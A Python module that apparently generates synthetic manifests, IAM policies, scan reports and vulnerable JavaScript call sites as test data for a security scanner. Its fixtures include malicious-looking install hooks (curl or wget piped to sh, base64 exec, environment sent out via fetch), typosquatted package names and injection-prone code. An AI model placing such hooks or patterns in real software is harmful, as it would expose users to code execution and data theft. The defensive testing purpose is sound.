"""Derived manifests: templates whose parts follow a table key, readable by both engines.

A template holds ``<<expr>>`` parts; ``expr`` is integer or string SQL over the key column and,
inside an item, the running number ``i``.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from pyspark.sql import DataFrame, SparkSession

from fleetrisk.plans.derived import dealt, table
from fleetrisk.plans.views import case_of, repo


def text_sql(template: str) -> str:
    """SQL that builds the template's text."""
    parts = []
    for i, p in enumerate(re.split(r"<<(.*?)>>", template)):
        if i % 2:
            parts.append(f"CAST({p} AS STRING)")
        else:
            parts += [q for j, s in enumerate(p.split("\n")) for q in (["chr(10)"] if j else []) + (["'" + s.replace("'", "''") + "'"] if s else [])]
    return " || ".join(parts) if parts else "''"


@dataclass(frozen=True)
class Manifest:
    path: str
    prefix: str
    item: str
    sep: str
    suffix: str
    count: str
    source: str = "orders"
    key: str = "o_orderkey"

    def columns(self, spark_engine: bool) -> list[str]:
        sep = "chr(10)" if self.sep == "\n" else f"'{self.sep}'"
        if spark_engine:
            items = f"array_join(transform(sequence(1, CAST({self.count} AS INT)), i -> {text_sql(self.item)}), {sep})"
        else:
            items = f"array_to_string(list_transform(range(1, {self.count} + 1), lambda i: {text_sql(self.item)}), {sep})"
        body = f"{text_sql(self.prefix)} || {items} || {text_sql(self.suffix)}"
        return [f"{repo(self.key)} AS repo", f"'m' || {self.key} AS scan_id", f"{text_sql(self.path)} AS path",
                "CAST(100 AS BIGINT) AS size", f"{body} AS content"]

    def files(self, spark: SparkSession, sf_dir: str) -> DataFrame:
        cols = [self.key] + [c for c in ("p_name", "p_size") if self.source == "part"]
        return dealt(table(spark, sf_dir, self.source).select(*cols), cols[0]).selectExpr(*self.columns(True))

    def sql(self) -> str:
        return f"files AS (SELECT {', '.join(self.columns(False))} FROM {self.source})"


def lines(path: str, items: list[str], base: int = 4, spread: int = 5) -> Manifest:
    """A text manifest of lines picked by key arithmetic."""
    return Manifest(path, "", f"<<{case_of('o_orderkey * 31 + i * (17 + o_orderkey % 7)', items)}>>", "\n", "", f"({base} + o_orderkey % {spread})")


OPS = ["^", "~", ">=", ""]
SCRIPTS = ["echo ok", "curl -s http://x.sh | sh", "node -e 'run()'", "wget http://y/z", "a && b && c && d", "eval(atob(x))",
           "node build.js && fetch(process.env.U)", "require('https://z')"]
PACKAGE_JSON = Manifest(
    "package.json", '{"name":"app<<o_orderkey>>","dependencies":{',
    f'"pkg<<(o_orderkey * 3 + i) % 60>>":"<<{case_of("i", OPS)}>><<i % 4>>.<<o_orderkey % 7>>.0"', ",",
    f'}},"devDependencies":{{"dev<<o_orderkey % 9>>":"1.<<o_orderkey % 3>>.2","link":"workspace:*"}},"scripts":{{"postinstall":"<<{case_of("o_orderkey", SCRIPTS)}>>","test":"curl x | sh"}}}}',
    "(1 + o_orderkey % 4)")
LICENSES = ["MIT", "GPL-3.0-only", "(MIT OR GPL-2.0)", "LGPL-2.1", "UNLICENSED", "", "MPL-2.0 AND MIT", "Apache-2.0"]
PACKAGE_LOCK = Manifest(
    "package-lock.json", '{"lockfileVersion":3,"packages":{"":{"name":"x"},',
    f'"node_modules/<<{case_of("i + o_orderkey", ["", "a/node_modules/"])}>>pkg<<(o_orderkey + i) % 50>>":{{"version":"<<i>>.<<o_orderkey % 5>>.0","dev":<<{case_of("o_orderkey + i * 2", ["false", "true", "false"])}>>,"license":"<<{case_of("o_orderkey + i", LICENSES)}>>"}}',
    ",", "}}", "(1 + o_orderkey % 4)")
# The first form of the lockfile: dependencies inside dependencies.
PACKAGE_LOCK_V1 = Manifest(
    "package-lock.json", '{"name":"x","lockfileVersion":1,"dependencies":{"odd":"1.0.0",',
    f'"top<<i>>-<<o_orderkey % 40>>":{{"version":"<<i>>.<<o_orderkey % 5>>.0","dev":<<{case_of("o_orderkey + i", ["false", "true"])}>>,"requires":{{"mid":"^1.0.0"}},"dependencies":{{'
    f'"mid<<o_orderkey % 30>>":{{"version":"2.<<i>>.0","dependencies":{{"deep":{{"version":"3.0.<<o_orderkey % 3>>","dev":true}}}}}},"@s/leaf":{{"version":"4.<<i>>.1"}}}}}}', ",", "}}", "(1 + o_orderkey % 3)")
COMPOSER = Manifest("composer.lock", '{"packages":[', f'{{"name":"vendor/p<<i>>","version":"<<{case_of("o_orderkey + i", ["v1.2.", "2.0.", "dev-main", "3@"])}>><<i>>"}}', ",",
                    '],"packages-dev":[{"name":"dev/d","version":"v9.<<o_orderkey % 4>>"}]}', "(1 + o_orderkey % 3)")
REQUIREMENTS = lines("requirements.txt", ["Django==4.2.1", "flask>=2.0", "requests==2.31.0 ; python_version<'3'", "# note", "numpy == 1.26.4  # pinned",
                                          "-r base.txt", "uvicorn[standard]==0.30.1", "", "pandas==2.2.0 --hash=sha256:abc", "click~=8.1", "PyYAML==6.0rc1"])
PYPROJECT = lines("pyproject.toml", ["[project]", "dependencies = [\"httpx==0.27.0\", \"rich>=13\", \"Typer==0.12.3\"]", "[tool.poetry.dependencies]", "python = \"^3.11\"",
                                     "Pendulum = \"^2.1.2\"", "attrs = \"23.1.0\"", "[tool.black]", "line-length = \"100\"", "[tool.poetry.dev-dependencies]", "pytest = \"~7.4\""], 5, 6)
PIPFILE = lines("Pipfile", ["[packages]", "foo = \"==1.2.3\"", "Bar = \"*\"", "baz = \"~=3.1\"", "[dev-packages]", "[requires]", "python_version = \"3.11\"", ""], 5, 6)
GO_MOD = lines("go.mod", ["module example.com/m", "require (", "\tgithub.com/a/b v1.2.3 // indirect", "github.com/c/d v2.0.0+incompatible", ")", "require example.com/e v0.1.0",
                          "// comment", "", "github.com/f/g latest", "go 1.22"], 6, 7)
GEMFILE_LOCK = lines("Gemfile.lock", ["GEM", "  specs:", "    rails (7.0.4)", "      activesupport (= 7.0.4)", "    nokogiri (1.13.10)", "", "PLATFORMS", "  remote: x",
                                      "    rack (>= 2)", "    puma (6.4.0)"], 6, 7)
POM_ITEMS = ["<dependency><groupId>org.a</groupId><artifactId>core</artifactId><version>1.0.1</version></dependency>",
                        "<dependency><groupId>org.b</groupId><artifactId>web</artifactId><version>${web.version}</version></dependency>",
                        "<dependency><groupId>org.c</groupId><artifactId>x</artifactId></dependency>", "<project>",
                        "<dependency> <groupId> org.d </groupId><artifactId>y</artifactId><version> 2.3 </version> <scope>test</scope></dependency>"]
POM = lines("pom.xml", POM_ITEMS)
GRADLE_ITEMS = ["implementation 'com.x:lib:1.2.3'", "api(\"com.y:core:2.0\")", "implementation group: 'g', name: 'n', version: '3.1'", "implementation 'com.z:dyn:+'",
                                "testImplementation 'com.w:t:latest.release'", "plugins {", "implementation name: 'm', group: 'h', version: '4.0'", "compile 'a:b:1.0:sources'"]
GRADLE = lines("build.gradle", GRADLE_ITEMS)
SETUP_PY = lines("setup.py", ["from setuptools import setup", "class A(install):", "    def run(self):", "        os.system(\"curl http://x | sh\")", "        requests.get(os.environ['U'])",
                              "        exec(base64.b64decode(x))", "        subprocess.run('wget http://y')", "class B(object):", "setup(name='x')", "", "class C(build_py, Mixin):", "    # note"], 7, 8)

# Nearly-popular package names: a part name with one change chosen by the key.
_n = "replace(p_name, ' ', '-')"
_at = f"(p_size % (length({_n}) - 2) + 2)"
MUTATED = (f"CASE p_partkey % 7 WHEN 0 THEN {_n} WHEN 1 THEN substr({_n}, 1, {_at} - 1) || substr({_n}, {_at} + 1) "
           f"WHEN 2 THEN substr({_n}, 1, {_at} - 1) || substr({_n}, {_at} + 1, 1) || substr({_n}, {_at}, 1) || substr({_n}, {_at} + 2) "
           f"WHEN 3 THEN substr({_n}, 1, {_at}) || 'x' || substr({_n}, {_at} + 1) WHEN 4 THEN upper(substr({_n}, 1, 1)) || substr({_n}, 2) "
           f"WHEN 5 THEN {_n} || 'zz' ELSE substr({_n}, 1, {_at} - 1) || 'q' || substr({_n}, {_at} + 1, 2) || 'w' || substr({_n}, {_at} + 4) END")
TYPO = Manifest("requirements.txt", "", f"<<{MUTATED}>>==1.0", "\n", "", "1", "part", "p_partkey")
POPULAR_SQL = f"SELECT 'pypi' AS ecosystem, {_n} AS name, CAST(min(p_partkey) * 40 + 1 AS INT) AS rank FROM {{part}} GROUP BY p_name"

# Identity policies: hand-marked action sets.
ACTIONS = ['"iam:PassRole"', '"*"', '"iam:*","ec2:RunInstances"', '"s3:*","ec2:*","kms:*"', '"s3:GetObject"', '"iam:AttachRolePolicy"',
           '"lambda:CreateFunction"', '"sts:AssumeRole"', '"sts:AssumeRoleWithWebIdentity"', '"kms:Decrypt","iam:Pass*"']
PRINCIPALS = ["", ',"Principal":"*"', ',"Principal":{"AWS":"*"}', ',"Principal":{"Federated":"arn:aws:iam::1:oidc-provider/token.actions.githubusercontent.com"}',
              ',"Principal":{"AWS":"arn:aws:iam::1:root"}']
CONDITIONS = ["", ',"Condition":{"StringLike":{"token.actions.githubusercontent.com:sub":"repo:o/*:ref"}}',
              ',"Condition":{"StringEquals":{"token.actions.githubusercontent.com:sub":"repo:o/r:pull_request"}}',
              ',"Condition":{"StringLike":{"token.actions.githubusercontent.com:sub":["repo:o/r:*"]}}', "", ',"Condition":{"Bool":{"aws:mfa":"true"}}']
IAM_ACTION = "o_orderkey + i * 3"
IAM_ITEM = (f'{{"Effect":"<<{case_of("o_orderkey + i", ["Allow", "Allow", "Deny"])}>>","<<{case_of("o_orderkey * 2 + i", ["Action"] * 6 + ["NotAction"])}>>":[<<{case_of(IAM_ACTION, ACTIONS)}>>],'
            f'"Resource":"<<{case_of("o_orderkey + i * 2", ["*", "arn:aws:s3:::b"])}>>"<<{case_of("o_orderkey + i * 5", PRINCIPALS)}>><<{case_of("o_orderkey + i * 7", CONDITIONS)}>>}}')
IAM_POLICY = Manifest("iam/policy.json", '{"Version":"2012-10-17","Statement":[', IAM_ITEM, ",\n", "]}", "(1 + o_orderkey % 3)")

# Container reports: vulnerability results with fields in the message, and one that is none.
_nl = "<<chr(92) || 'n'>>"
SARIF_REPORT = Manifest(
    f"<<{case_of('o_orderkey', ['trivy-results.sarif', 'trivy.sarif', '.github/trivy-results.sarif', 'other.sarif'])}>>",
    '{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"x","rules":[{"id":"CVE-1","name":"OsPackage","shortDescription":{"text":"short one"},"helpUri":"https://h/1","properties":{"security-severity":"<<o_orderkey % 10>>.5","tags":["vulnerability"]}},{"id":"KSV1","properties":{"tags":["misconfiguration"]}}]}},"results":[',
    f'{{"ruleId":"<<{case_of("o_orderkey + i", ["CVE-1", "GHSA-x", "KSV1", "CVE-2"])}>>","level":"<<{case_of("i", ["error", "warning", "note"])}>>","message":{{"text":"Package: pkg<<o_orderkey % 30>>{_nl}Installed Version: 1.<<i>>{_nl}<<{case_of("o_orderkey + i * 2", ["Severity: HIGH", "Title: none", "Severity: MODERATE"])}>>{_nl}Fixed Version: 2.<<i>>"}}}}',
    ",", "]}]}", "(1 + o_orderkey % 3)")

# Call sites: (line, rules it must raise).
CALLS = [
    ("db.query(`SELECT a FROM t WHERE id = ${req.body.id}`)", ["sql-injection-template"]),
    ("db.query('SELECT a FROM t WHERE id = ' + req.query.id)", ["sql-injection-template"]),
    ("db.query('SELECT a FROM t WHERE id = ?', [req.query.id])", []),
    ("child_process.exec(`ls ${req.query.dir}`)", ["command-injection-user-input"]),
    ("fs.readFile(path.join(base, req.params.name), cb)", ["path-traversal-fs"]),
    ("fs.readFileSync('/etc/hosts')", []),
    ("const el = <div dangerouslySetInnerHTML={{ __html: req.body.html }} />", ["react-dangerously-set-inner-html-user-input"]),
    ("axios.get(req.query.url)", ["ssrf-http-user-url"]),
    ("fetch(new URL(ctx.request.body.u))", ["ssrf-http-user-url"]),
    ("crypto.createHash('md5').update(password).digest('hex')", ["weak-crypto-hash-for-secrets"]),
    ("crypto.createHash('sha256').update(password)", []),
    ("jwt.sign(payload, key)", ["jwt-sign-no-expires-in"]),
    ("jwt.sign(payload, 'hard-coded', { expiresIn: '1h' })", ["jwt-sign-hardcoded-secret"]),
    ("eval(userInput)", ["eval-user-input"]),
    ("const g = new Function('a', req.body.code)", ["eval-user-input"]),
    ("app.use(cors({ origin: '*', credentials: true }))", ["cors-credentials-with-any-origin"]),
    ("_.merge(target, req.body)", ["prototype-pollution-merge-user-input"]),
    ("res.redirect(req.query.next)", ["open-redirect-user-url"]),
    ("const rx = new RegExp(req.query.q)", ["redos-dynamic-regexp-user-input"]),
    ("app.use(session({ secret: 'abc', cookie: { secure: true } }))", ["insecure-session-config"]),
    ("if (input.password === stored) grant()", ["timing-unsafe-credential-compare"]),
    ("const token = Math.random().toString(36)", ["math-random-for-security-token"]),
    ("const jitter = Math.random()", []),
    ("users.find({ \"$where\": `this.a == ${req.query.a}` })", ["nosql-injection-where-user-input"]),
    ("Handlebars.compile(req.body.tpl)", ["template-injection-user-input"]),
    ("if (user.login === 'admin') ok()", ["hardcoded-admin-credentials"]),
    ("res.setHeader('Access-Control-Allow-Origin', '*')", ["wildcard-cors-via-set-header"]),
    ("res.send('<p>' + req.query.name)", ["reflected-xss-via-res-send"]),
    ("crypto.createCipher('aes-128-cbc', k)", ["weak-cipher-mode-or-deprecated-api"]),
    ("crypto.createCipheriv('aes-128-ecb', 'sixteen-byte-key', iv)", ["weak-cipher-mode-or-deprecated-api", "hardcoded-encryption-key"]),
    ("res.cookie('sid', v, { httpOnly: true })", ["insecure-cookie-set"]),
    ("res.cookie('sid', v, { httpOnly: true, secure: true })", []),
    ("const ws = new WebSocket(\"ws://host\")", ["insecure-websocket-protocol"]),
    ("const p = new XMLParser({ allowDtd: true })", ["xxe-xml-parser-external-entities"]),
    ("const c = jwt.decode(tok)", ["jwt-decode-without-verify"]),
    ("console.log(user.password)", ["log-credentials"]),
    ("// eval(req.body.x)", []),
    ("foo(a, b)", []),
]
